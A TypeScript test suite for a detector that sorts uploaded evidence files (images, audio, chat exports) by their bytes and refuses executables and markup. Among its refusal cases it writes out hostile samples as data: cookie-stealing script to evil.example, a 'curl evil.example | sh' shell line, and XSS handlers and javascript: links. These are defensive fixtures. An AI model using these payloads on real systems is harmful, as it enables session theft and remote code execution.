import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import {
  checkTextAsItStreams,
  type Detected,
  detectEvidenceType,
  EVIDENCE_TYPES,
  type EvidenceType,
  SNIFF_BYTES,
} from "./file-type";

/** Bytes from numbers and Latin-1 strings, as file headers are written down. */
function bytes(...parts: (string | number[] | Buffer)[]): Buffer {
  return Buffer.concat(
    parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))),
  );
}

const u32be = (value: number) => {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32BE(value);
  return buffer;
};
const u32le = (value: number) => {
  const buffer = Buffer.alloc(4);
  buffer.writeUInt32LE(value);
  return buffer;
};

/** An "ftyp" box with its major brand and compatible brands, then the start of the next box. */
function ftyp(major: string, compatible: string[]): Buffer {
  const box = bytes(u32be(16 + 4 * compatible.length), "ftyp", major, u32be(0), ...compatible);
  return bytes(box, u32be(8), "free", u32be(0x1000), "mdat", [0x00, 0x00, 0x00, 0x02]);
}

/** Reproducible noise: a SHA-256 chain, so no run can happen on bytes that look like a format. */
function noise(length: number, seed = "noise"): Buffer {
  const blocks: Buffer[] = [];
  let block = createHash("sha256").update(seed).digest();
  for (let total = 0; total < length; total += block.length) {
    blocks.push(block);
    block = createHash("sha256").update(block).digest();
  }
  return Buffer.concat(blocks).subarray(0, length);
}

const text = (value: string) => Buffer.from(value, "utf8");
const accepted = (type: EvidenceType, mime: string): Detected => ({ ok: true, type, mime });
const UNKNOWN: Detected = { ok: false, reason: "unknown" };
const MARKUP: Detected = { ok: false, reason: "markup" };

const headers: [string, Buffer, EvidenceType, string][] = [
  [
    "a JPEG photo (JFIF)",
    bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], "JFIF\0", [0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0, 0], noise(64)),
    "jpeg",
    "image/jpeg",
  ],
  [
    "a JPEG from a phone camera (Exif)",
    bytes([0xff, 0xd8, 0xff, 0xe1, 0x1c, 0x45], "Exif\0\0", "MM\0*", noise(64)),
    "jpeg",
    "image/jpeg",
  ],
  [
    "a PNG screenshot",
    bytes([0x89], "PNG\r\n\x1a\n", u32be(13), "IHDR", u32be(1080), u32be(2400), [8, 6, 0, 0, 0], noise(64)),
    "png",
    "image/png",
  ],
  ["a WebP image", bytes("RIFF", u32le(0x2e1a), "WEBP", "VP8 ", u32le(0x2e0e), noise(64)), "webp", "image/webp"],
  ["an iPhone HEIC photo", ftyp("heic", ["mif1", "miaf", "MiHB", "heic"]), "heic", "image/heic"],
  ["a bank statement PDF", bytes("%PDF-1.7\n%", [0xe2, 0xe3, 0xcf, 0xd3], "\n1 0 obj\n"), "pdf", "application/pdf"],
  [
    "an MP3 with an ID3v2.4 tag",
    bytes("ID3", [0x04, 0x00, 0x00, 0x00, 0x00, 0x02, 0x01], "TIT2", noise(64)),
    "mp3",
    "audio/mpeg",
  ],
  [
    "an MP3 with an ID3v2.3 tag",
    bytes("ID3", [0x03, 0x00, 0x00, 0x00, 0x00, 0x0f, 0x76], "TALB", noise(64)),
    "mp3",
    "audio/mpeg",
  ],
  ["an untagged MP3 (MPEG-1 Layer III frame)", bytes([0xff, 0xfb, 0x90, 0x64], noise(64)), "mp3", "audio/mpeg"],
  ["an MPEG-2 Layer III frame", bytes([0xff, 0xf3, 0x64, 0xc4], noise(64)), "mp3", "audio/mpeg"],
  ["an MPEG-2.5 Layer III frame", bytes([0xff, 0xe3, 0x18, 0xc4], noise(64)), "mp3", "audio/mpeg"],
  ["an MPEG-1 Layer II frame", bytes([0xff, 0xfd, 0x84, 0x04], noise(64)), "mp3", "audio/mpeg"],
  ["an iPhone voice memo (M4A)", ftyp("M4A ", ["M4A ", "mp42", "isom", "\0\0\0\0"]), "m4a", "audio/mp4"],
  ["an AMR call recording", bytes("#!AMR\n", [0x3c, 0x48, 0xf5, 0x1f], noise(64)), "amr", "audio/amr"],
  ["an AMR-WB recording", bytes("#!AMR-WB\n", [0x24, 0x1c, 0x22], noise(64)), "amr", "audio/amr"],
  [
    "a WhatsApp voice note (Ogg Opus)",
    bytes("OggS", [0x00, 0x02], Buffer.alloc(8), u32le(0x4f1c), u32le(0), u32le(0x6e0b2a11), [1, 19], "OpusHead"),
    "ogg",
    "audio/ogg",
  ],
  [
    "a WAV recording",
    bytes("RIFF", u32le(0x18824), "WAVE", "fmt ", u32le(16), [1, 0, 1, 0], u32le(8000), u32le(16000), [2, 0, 16, 0]),
    "wav",
    "audio/wav",
  ],
  ["a WhatsApp video (MP4)", ftyp("mp42", ["isom", "mp42"]), "mp4", "video/mp4"],
  [
    "a WhatsApp chat export (text)",
    text("12/03/24, 10:41 am - Rahul (SBI KYC): Sir your account will be blocked today\r\n"),
    "text",
    "text/plain; charset=utf-8",
  ],
  [
    "a WhatsApp chat export with media (zip)",
    bytes("PK\x03\x04", [0x14, 0, 0x08, 0, 0x08, 0], noise(16), "WhatsApp Chat with +91 98765 43210.txt"),
    "zip",
    "application/zip",
  ],
  ["an empty zip", bytes("PK\x05\x06", Buffer.alloc(18)), "zip", "application/zip"],
];

describe("detectEvidenceType: the accepted formats", () => {
  it.each(headers)("recognises %s", (_, head, type, mime) => {
    expect(detectEvidenceType(head)).toEqual(accepted(type, mime));
  });

  it("covers every evidence type, each with its one MIME type", () => {
    expect(new Set(headers.map(([, , type]) => type))).toEqual(new Set(EVIDENCE_TYPES));
    const mimes = new Map(headers.map(([, , type, mime]) => [type, mime]));
    expect(new Set(mimes.values()).size).toBe(EVIDENCE_TYPES.length);
  });

  it.each(headers)("reads %s the same from a head of SNIFF_BYTES and from the whole file", (_, head, type, mime) => {
    if (type === "text") return;
    const whole = bytes(head, noise(3 * SNIFF_BYTES, type));
    expect(detectEvidenceType(whole.subarray(0, SNIFF_BYTES))).toEqual(accepted(type, mime));
    expect(detectEvidenceType(whole)).toEqual(accepted(type, mime));
  });

  it("ignores the name, which it never sees: a PNG renamed .pdf is a PNG", () => {
    const png = headers.find(([, , type]) => type === "png")![1];
    expect(detectEvidenceType(png)).toEqual(accepted("png", "image/png"));
  });
});

describe("detectEvidenceType: ISO base media brands", () => {
  const MEDIA_MIME = { heic: "image/heic", m4a: "audio/mp4", mp4: "video/mp4" } as const;
  const brands: [string, string[], keyof typeof MEDIA_MIME | undefined][] = [
    ["heic", ["mif1", "heic"], "heic"],
    ["heix", ["mif1", "heix"], "heic"],
    ["hevc", ["msf1", "hevc"], "heic"],
    ["hevx", ["msf1", "hevx"], "heic"],
    ["mif1", ["mif1", "heic"], "heic"],
    ["msf1", ["msf1", "hevc"], "heic"],
    ["heim", ["mif1", "heim"], "heic"],
    ["heis", ["mif1", "heis"], "heic"],
    ["M4A ", ["M4A ", "mp42", "isom"], "m4a"],
    ["M4B ", ["M4B ", "mp42", "isom"], "m4a"],
    ["M4P ", ["M4P ", "mp42", "isom"], "m4a"],
    ["isom", ["isom", "iso2", "avc1", "mp41"], "mp4"],
    ["iso2", ["isom", "iso2"], "mp4"],
    ["iso6", ["iso6", "dash"], "mp4"],
    ["mp41", ["mp41", "isom"], "mp4"],
    ["mp42", ["mp42", "isom"], "mp4"],
    ["avc1", ["avc1", "isom"], "mp4"],
    ["3gp4", ["3gp4", "isom"], "mp4"],
    ["3gp5", ["3gp5", "isom"], "mp4"],
    ["3gp6", ["3gp6", "isom"], "mp4"],
    ["3g2a", ["3g2a"], "mp4"],
    ["dash", ["iso6", "mp41"], "mp4"],
    ["MSNV", ["MSNV", "mp42", "isom"], "mp4"],
    ["qt  ", ["qt  "], "mp4"],
    // iTunes video lists M4A among its compatible brands, and stays video.
    ["M4V ", ["M4V ", "M4A ", "mp42", "isom"], "mp4"],
    ["mp42", [], "mp4"],
    // Audio written under a generic brand, as some Android recorders do.
    ["mp42", ["isom", "M4A "], "m4a"],
    ["isom", ["M4A ", "isom"], "m4a"],
    ["mp41", ["mp41", "M4B "], "m4a"],
    ["3gp4", ["3gp4", "M4A "], "mp4"],
    // Image and raw formats sharing the box structure, and brands nobody uses for evidence.
    ["avif", ["avif", "mif1", "miaf", "MA1B"], undefined],
    ["crx ", ["crx ", "isom"], undefined],
    ["jpx ", ["jpx "], undefined],
    ["zzzz", ["isom", "mp42"], undefined],
  ];

  it.each(brands)("maps major brand %j (compatible %j) to %s", (major, compatible, type) => {
    const result = detectEvidenceType(ftyp(major, compatible));
    if (type === undefined) expect(result).toEqual(UNKNOWN);
    else expect(result).toEqual(accepted(type, MEDIA_MIME[type]));
  });

  it("reads compatible brands only within the ftyp box", () => {
    // "M4A " in the next box is not a compatible brand of this one.
    expect(detectEvidenceType(bytes(u32be(16), "ftyp", "mp42", u32be(0), "M4A ", noise(32)))).toEqual(
      accepted("mp4", "video/mp4"),
    );
  });

  it("refuses an ftyp box too small to be one, or a file cut inside it", () => {
    expect(detectEvidenceType(bytes(u32be(8), "ftyp", "mp42", u32be(0)))).toEqual(UNKNOWN);
    expect(detectEvidenceType(bytes(u32be(24), "ftyp", "mp42"))).toEqual(UNKNOWN);
  });
});

describe("detectEvidenceType: MP3 frame sync", () => {
  it.each([
    ["AAC in ADTS (layer bits 00)", [0xff, 0xf1, 0x50, 0x80]],
    ["a reserved MPEG version (01)", [0xff, 0xeb, 0x90, 0x64]],
    ["an invalid bitrate index (1111)", [0xff, 0xfb, 0xf0, 0x64]],
    ["a reserved sample rate (11)", [0xff, 0xfb, 0x9c, 0x64]],
    ["an incomplete sync (0xFF then 0xC0)", [0xff, 0xdb, 0x90, 0x64]],
    ["MPEG layer I (FF FE is also UTF-16's byte order mark)", [0xff, 0xfe, 0x48, 0x00]],
    ["MPEG-1 layer I without CRC", [0xff, 0xff, 0x90, 0x64]],
    ["0xFF alone", [0xff]],
  ])("refuses %s", (_, head) => {
    expect(detectEvidenceType(bytes(head, noise(32)))).toEqual(UNKNOWN);
  });

  it("keeps text that starts with the letters ID3 as text", () => {
    expect(detectEvidenceType(text("ID3 notes on the call: he asked for the OTP twice."))).toEqual(
      accepted("text", "text/plain; charset=utf-8"),
    );
  });

  it("refuses an ID3 tag with an impossible version or size", () => {
    expect(detectEvidenceType(bytes("ID3", [0x09, 0, 0, 0, 0, 0x02, 0x01], noise(32)))).toEqual(UNKNOWN);
    expect(detectEvidenceType(bytes("ID3", [0x04, 0, 0, 0x80, 0, 0x02, 0x01], noise(32)))).toEqual(UNKNOWN);
  });
});

describe("detectEvidenceType: refused", () => {
  it.each([
    ["an empty file", Buffer.alloc(0)],
    [
      "a Windows executable renamed .jpg",
      bytes(
        "MZ",
        [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff],
        Buffer.alloc(46),
        "This program cannot be run in DOS mode",
      ),
    ],
    ["an ELF binary", bytes("\x7fELF", [2, 1, 1, 0], Buffer.alloc(8), [2, 0, 0x3e, 0], noise(32))],
    ["a 64-bit Mach-O", bytes([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01], noise(32))],
    ["a 32-bit Mach-O", bytes([0xfe, 0xed, 0xfa, 0xce], noise(32))],
    ["a universal Mach-O", bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], noise(32))],
    ["a gzip file", bytes([0x1f, 0x8b, 0x08, 0x00], noise(32))],
    ["a RAR archive", bytes("Rar!\x1a\x07\x01\x00", noise(32))],
    ["a 7z archive", bytes("7z", [0xbc, 0xaf, 0x27, 0x1c, 0, 4], noise(32))],
    ["a GIF", bytes("GIF89a", [0x01, 0x00, 0x01, 0x00, 0x80, 0, 0], noise(32))],
    ["an AVI (RIFF of another form)", bytes("RIFF", u32le(1000), "AVI LIST", noise(32))],
    ["random binary", noise(SNIFF_BYTES)],
    ["random binary, short", noise(7, "short")],
    ["Latin-1 text (not UTF-8)", Buffer.from("Caf\xe9 cr\xe8me, \xa330", "latin1")],
    ["UTF-16 text (NUL bytes)", Buffer.from("\ufeffHello, this is my complaint", "utf16le")],
  ])("refuses %s as unknown", (_, head) => {
    expect(detectEvidenceType(head)).toEqual(UNKNOWN);
  });

  it.each([
    ["an HTML page", "<!DOCTYPE html>\n<html><head><title>SBI</title></head><body>Login</body></html>"],
    ["an HTML page in lower case, after a BOM and blank lines", "\ufeff\r\n\n  \t<!doctype html><title>x</title>"],
    ["HTML without a doctype", "<html>\n<body onload=steal()>"],
    ["HTML starting at <head>", "<HEAD><META http-equiv=refresh content=0;url=//evil.example>"],
    ["HTML starting at <body>", "<body>\nPay now"],
    ["a script", "<script>fetch('//evil.example/?c='+document.cookie)</script>"],
    ["an SVG image", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'],
    ["an SVG with an XML declaration", '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'],
    [
      "an XHTML page",
      '<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    ],
    ["a plain XML file", '<?xml version="1.0"?><note>hi</note>'],
    ["an iframe", "<iframe src=//evil.example>"],
    ["an object", '<object data="x.swf">'],
    ["an embed", '<embed src="x.swf">'],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'],
    ["a link", '<a href="//evil.example">Claim your refund</a>'],
    ["an image", '<img src="//evil.example/x.png">'],
    ["a style", "<style>body{background:url(//evil.example)}</style>"],
    ["a stylesheet link", '<link rel="stylesheet" href="//evil.example/x.css">'],
    ["an HTML comment", "<!-- saved from url=(0014)about:internet -->\n<p>"],
    ["a shell script", "#!/bin/sh\ncurl evil.example | sh\n"],
    ["a shebang after whitespace", "\n\n#!/usr/bin/env node\n"],
    ["a script tag after some text", "Here is what they sent me:\n<script src=//evil.example/x.js></script>"],
    ["an svg after some text", "logo follows <SVG onload=alert(1)>"],
    ["an html tag after some text", "saved page:\n<html>"],
    ["an iframe after some text", "look <iframe src=x>"],
    ["a javascript: link anywhere", "click here: javascript:alert(document.domain)"],
    ["a JavaScript: link in other case and spacing", "href=JavaScript :void(0)"],
    ["an onerror handler anywhere", "x <img src=x onerror=alert(1)>"],
    ["an onload handler with spaces", "body ONLOAD = go()"],
  ])("refuses %s as markup", (_, value) => {
    expect(detectEvidenceType(text(value))).toEqual(MARKUP);
  });

  it("refuses markup whose BOM is followed by a form feed and CRLF", () => {
    expect(detectEvidenceType(bytes([0xef, 0xbb, 0xbf], "\f\r\n<svg/>"))).toEqual(MARKUP);
  });

  it.each([
    ["NUL", 0x00],
    ["start of heading", 0x01],
    ["bell", 0x07],
    ["backspace", 0x08],
    ["vertical tab", 0x0b],
    ["shift out", 0x0e],
    ["escape (terminal colour codes)", 0x1b],
    ["unit separator", 0x1f],
  ])("refuses text with a %s control character", (_, code) => {
    expect(detectEvidenceType(bytes(text("Amount debited: Rs 40,000"), [code], text(" from A/c XX1234\n")))).toEqual(
      UNKNOWN,
    );
  });
});

describe("detectEvidenceType: text", () => {
  const TEXT = accepted("text", "text/plain; charset=utf-8");

  it.each([
    ["English", "Lost Rs 40,000 to a fake KYC call on 12 March.\n"],
    ["Hindi (Devanagari)", "मुझे एक फर्जी केवाईसी कॉल आया और मेरे खाते से ₹40,000 कट गए।\n"],
    ["emoji", "He said the refund was ready 🙏😢💸 and asked for the OTP 🔢\n"],
    ["Tamil and Bengali", "மோசடி அழைப்பு — প্রতারণার কল\n"],
    ["a UTF-8 BOM", "\ufeffWhatsApp chat export"],
    ["tabs, CRLF and form feeds", "Date\tAmount\r\n12/03\t40000\r\n\fPage 2\r\n"],
    ["angle brackets that are not markup", "I <3 my bank. 5 < 7 and 9 > 2. <br>eak <bread> <ab> <p1>\n"],
    ["a WhatsApp export line with its marks", "12/03/24, 10:41\u202fam - \u200eRahul: \u200eimage omitted\n"],
    ["a heart at the start", "<3 to everyone who helped me file the complaint\n"],
    ["words in angle brackets at the start", "<bread> costs Rs 40, <ab> and <p1> are labels\n"],
    ["only whitespace", "   \n"],
    ["a single character", "a"],
    ["a URL", "The fraud site was https://sbi-kyc-update.example/login?id=42\n"],
  ])("accepts %s", (_, value) => {
    expect(detectEvidenceType(text(value))).toEqual(TEXT);
  });

  /** A head of exactly SNIFF_BYTES that stops `keep` bytes into the multi-byte `character`. */
  function cutAt(character: string, keep: number): Buffer {
    const encoded = text(character);
    const filler = text("क".repeat(Math.ceil(SNIFF_BYTES / 3)));
    const start = filler.subarray(0, SNIFF_BYTES - keep - ((SNIFF_BYTES - keep) % 3));
    const padding = text(" ".repeat(SNIFF_BYTES - keep - start.length));
    const head = bytes(start, padding, encoded.subarray(0, keep));
    expect(head).toHaveLength(SNIFF_BYTES);
    return head;
  }

  it.each([
    ["a Devanagari letter (3 bytes), 1 byte in", "क", 1],
    ["a Devanagari letter (3 bytes), 2 bytes in", "क", 2],
    ["the rupee sign (3 bytes), 2 bytes in", "₹", 2],
    ["an emoji (4 bytes), 1 byte in", "🙏", 1],
    ["an emoji (4 bytes), 2 bytes in", "🙏", 2],
    ["an emoji (4 bytes), 3 bytes in", "🙏", 3],
    ["é (2 bytes), 1 byte in", "é", 1],
  ])("accepts a head of SNIFF_BYTES cut inside %s", (_, character, keep) => {
    expect(detectEvidenceType(cutAt(character, keep))).toEqual(TEXT);
  });

  it("accepts a longer file passed whole when SNIFF_BYTES falls inside a character", () => {
    // 2 + 3 × 1364 = 4094: the letter that starts there ends past SNIFF_BYTES.
    const whole = text(`xx${"क".repeat(2000)}`);
    expect(whole.length).toBeGreaterThan(SNIFF_BYTES);
    expect(text(whole.subarray(0, SNIFF_BYTES).toString("utf8")).equals(whole.subarray(0, SNIFF_BYTES))).toBe(false);
    expect(detectEvidenceType(whole)).toEqual(TEXT);
  });

  it("refuses a short file that really ends inside a character", () => {
    expect(detectEvidenceType(text("Paid ₹").subarray(0, -1))).toEqual(UNKNOWN);
    expect(detectEvidenceType(text("Thanks 🙏").subarray(0, -2))).toEqual(UNKNOWN);
  });

  it("refuses a cut head whose last bytes could not begin a character", () => {
    // A stray continuation byte, and a lead byte followed by an impossible second byte.
    expect(detectEvidenceType(bytes(text("a".repeat(SNIFF_BYTES - 1)), [0x80]))).toEqual(UNKNOWN);
    expect(detectEvidenceType(bytes(text("a".repeat(SNIFF_BYTES - 2)), [0xe0, 0x80]))).toEqual(UNKNOWN);
    expect(detectEvidenceType(bytes(text("a".repeat(SNIFF_BYTES - 1)), [0xff]))).toEqual(UNKNOWN);
  });

  it("refuses invalid UTF-8 inside the text", () => {
    const cases = [
      [0xc0, 0xaf], // an overlong "/"
      [0xed, 0xa0, 0x80], // a UTF-16 surrogate
      [0xf4, 0x90, 0x80, 0x80], // beyond U+10FFFF
      [0xe0, 0xa4], // a Devanagari letter missing its last byte, mid-text
    ];
    for (const sequence of cases)
      expect(detectEvidenceType(bytes(text("Paid "), sequence, text(" today")))).toEqual(UNKNOWN);
  });

  // The rest of a text file is checkTextAsItStreams's (below).
  it("looks for markup only in the head it is given", () => {
    const head = text(`${"Complaint details. ".repeat(300)}`.slice(0, SNIFF_BYTES));
    expect(detectEvidenceType(bytes(head, text("<script>")))).toEqual(TEXT);
    expect(detectEvidenceType(bytes(head.subarray(0, SNIFF_BYTES - 8), text("<script>")))).toEqual(MARKUP);
  });
});

describe("checkTextAsItStreams: the whole text, chunk by chunk", () => {
  /** The check's answer for `whole` sent in chunks of `size` bytes (or cut at `cuts`): the first refusal, or undefined. */
  function checked(whole: Buffer, size: number | number[]): string | undefined {
    const cuts = typeof size === "number" ? [] : size;
    const ends = typeof size === "number" ? [] : [...cuts, whole.length];
    const check = checkTextAsItStreams();
    if (typeof size === "number") {
      for (let offset = 0; offset < whole.length; offset += size) {
        const refused = check.next(whole.subarray(offset, offset + size));
        if (refused) return refused;
      }
    } else {
      let start = 0;
      for (const end of ends) {
        const refused = check.next(whole.subarray(start, end));
        if (refused) return refused;
        start = end;
      }
    }
    return check.end();
  }

  const CHUNK = 64 * 1024;
  /** Chat lines in English and Hindi, exactly `length` bytes of them, padded with spaces to end on a whole character. */
  function chat(length: number): Buffer {
    const line = text("[25/11/26, 10:02] Bank: आपका OTP 4411 है। किसी को न बताएं ✅ <3 5 < 7\n");
    const lines = Buffer.concat(Array.from({ length: Math.ceil(length / line.length) }, () => line));
    // A streaming decode holds back the character the cut falls inside.
    const whole = text(new TextDecoder().decode(lines.subarray(0, length), { stream: true }));
    return Buffer.concat([whole, text(" ".repeat(length - whole.length))]);
  }
  /** `inserted` at byte `at` of a chat `length` bytes long. */
  function chatWith(length: number, at: number, inserted: string): Buffer {
    const middle = text(inserted);
    return Buffer.concat([chat(at), middle, chat(length - at - middle.length)]);
  }

  it("refuses a 30 KB text with <script> at byte 20,000 as markup, which the head's check lets through", () => {
    const file = chatWith(30 * 1024, 20_000, "<script>alert(1)</script>");
    expect(file.indexOf("<script>")).toBe(20_000);
    expect(detectEvidenceType(file)).toEqual(accepted("text", "text/plain; charset=utf-8"));
    expect(checked(file, CHUNK)).toBe("markup");
  });

  it.each([
    "<script>",
    "<SVG onload=x>",
    "<html>",
    "<iframe src=x>",
    "javascript:go()",
    "JavaScript \t :x",
    "onerror=",
    "ONLOAD  =",
  ])("refuses %s split across two chunks at every point", (marker) => {
    const at = CHUNK - 3;
    const file = chatWith(CHUNK + 4096, at, marker);
    for (let split = at; split <= at + marker.length; split++) expect(checked(file, [split])).toBe("markup");
  });

  it("refuses javascript and its colon with a run of whitespace longer than a chunk between them", () => {
    const file = Buffer.concat([chat(1000), text("javascript"), text(" ".repeat(CHUNK + 10)), text(":alert(1)")]);
    expect(checked(file, CHUNK)).toBe("markup");
    expect(checked(file, 7)).toBe("markup");
  });

  it("does not join words that whitespace separates, where the whitespace ends a chunk", () => {
    for (const [before, after] of [
      ["java", "script:x"],
      ["<scr", "ipt>"],
      ["on", "load=x"],
    ] as const) {
      const file = Buffer.concat([chat(1000), text(before), text("\n".repeat(CHUNK)), text(after), chat(100)]);
      expect(checked(file, CHUNK)).toBeUndefined();
      // Cut just after the whitespace, and inside it.
      expect(checked(file, [1000 + before.length + CHUNK])).toBeUndefined();
      expect(checked(file, [1000 + before.length + 1, 1000 + before.length + CHUNK])).toBeUndefined();
    }
  });

  it("takes text made of whole chunks of whitespace, each ending in a letter", () => {
    // Such runs once made the check backtrack for seconds a chunk.
    const file = Buffer.concat(Array.from({ length: 8 }, () => text(`${" ".repeat(CHUNK - 1)}a`)));
    expect(checked(file, CHUNK)).toBeUndefined();
  });

  it("refuses a markup opening after leading whitespace longer than the head", () => {
    expect(checked(text(`${"\n".repeat(CHUNK + 5)}<!doctype html><p>Pay now</p>`), CHUNK)).toBe("markup");
    expect(checked(text(`\ufeff${" ".repeat(SNIFF_BYTES)}<?xml version="1.0"?><note/>`), 1000)).toBe("markup");
  });

  it("accepts a long chat however it is cut, multi-byte characters split included", () => {
    const file = chat(200 * 1024);
    for (const size of [1, 2, 3, 7, 4096, CHUNK]) expect(checked(file, size)).toBeUndefined();
  });

  it("accepts a text that merely mentions markup words without their brackets or signs", () => {
    const file = Buffer.concat([
      chat(CHUNK - 4),
      text("script svg html iframe javascript onload onerror <b> <br> <p>\n"),
    ]);
    expect(checked(file, CHUNK)).toBeUndefined();
    expect(checked(file, 5)).toBeUndefined();
  });

  it("refuses a control character or invalid UTF-8 past the head as not text", () => {
    expect(checked(Buffer.concat([chat(50_000), bytes([0x1b]), text("[31m")]), CHUNK)).toBe("unknown");
    expect(checked(Buffer.concat([chat(50_000), bytes([0xc0, 0xaf]), text("x")]), CHUNK)).toBe("unknown");
    expect(checked(Buffer.concat([text("a".repeat(CHUNK - 1)), bytes([0xe0, 0x80])]), CHUNK)).toBe("unknown");
  });

  it("refuses a text that ends inside a character, and accepts one cut there by a chunk", () => {
    expect(checked(text("Paid ₹").subarray(0, -1), 3)).toBe("unknown");
    expect(checked(text("Paid ₹40"), 6)).toBeUndefined();
  });
});
